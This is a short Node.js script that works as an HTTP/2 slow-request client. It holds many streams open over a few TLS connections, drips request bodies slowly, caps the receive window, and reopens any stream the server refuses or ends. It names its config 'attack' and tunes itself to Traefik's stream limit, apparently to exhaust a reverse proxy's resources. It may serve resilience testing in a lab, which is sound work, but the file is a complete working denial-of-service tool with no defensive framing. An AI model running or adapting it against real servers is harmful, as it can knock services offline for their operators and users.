// A client that holds many requests open over few TLS connections, and begins each anew that is refused or ended.
//
// usage: node slow_client.mjs '{"address", "host", "source", "authority", "sessions", "streams", "window",
//   "headers": {":method", ":path", ...}, "head": "text", "drip": "text", "every": milliseconds}'
//
// Each of `sessions` HTTP/2 connections from the address `source` keeps `streams` requests under way: it sends `head`,
// then `drip` again and again, and takes at most `window` bytes of the answer (Traefik allows 250 streams at once).
// Prints a line when all were begun, and {"begun", "answers": {status: number}} at SIGTERM.
import http2 from 'node:http2';
import tls from 'node:tls';

const attack = JSON.parse(process.argv[2]);
const { address, host, source, authority, sessions, streams, window, headers, head, drip, every } = attack;
const report = { begun: 0, answers: {} };
const open = new Set();

function begin(session) {
  if (session.destroyed || session.closed) return;
  const stream = session.request(headers, { endStream: head === '' });
  report.begun += 1;
  if (report.begun === sessions * streams) console.log(JSON.stringify({ all: report.begun }));
  stream.on('response', ({ ':status': status }) => {
    report.answers[status] = (report.answers[status] ?? 0) + 1;
    if (status >= 400) stream.close(http2.constants.NGHTTP2_CANCEL);
  });
  stream.on('error', () => {});
  stream.once('close', () => {
    open.delete(stream);
    setTimeout(begin, 500, session);
  });
  if (head === '') return;
  stream.write(head);
  open.add(stream);
}

function connect() {
  const session = http2.connect(`https://${host}`, {
    createConnection: () =>
      tls.connect({
        host: address,
        port: 443,
        localAddress: source,
        servername: host,
        ca: authority,
        ALPNProtocols: ['h2'],
      }),
    settings: { initialWindowSize: window },
  });
  session.on('error', () => {});
  session.once('close', () => setTimeout(connect, 500));
  session.once('remoteSettings', () => {
    for (let n = 0; n < streams; n += 1) begin(session);
  });
}

for (let n = 0; n < sessions; n += 1) connect();
if (drip)
  setInterval(() => {
    for (const stream of open) if (!stream.destroyed) stream.write(drip);
  }, every);
process.on('SIGTERM', () => {
  console.log(JSON.stringify(report));
  process.exit(0);
});
